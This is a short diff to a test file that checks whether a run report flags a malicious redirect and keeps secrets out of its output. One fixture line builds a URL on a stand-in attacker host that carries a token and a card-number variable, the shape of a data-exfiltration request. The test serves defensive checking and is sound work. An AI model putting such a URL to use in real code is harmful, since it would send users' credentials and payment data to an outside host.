@@ -88,7 +88,9 @@ describe('the secrets of a run', () => {
         `https://evil.example/${OPTIONS.token}?key=planted-query&pan=${PAN}`,
       );
     });
-    expect(report.contradictions[0]?.found).toBe('a redirect (302) to https://evil.example');
+    expect(report.failures[0]?.message).toContain(
+      'redirects every request to https://evil.example',
+    );
     expectNoSecret(texts(report));
   });
 
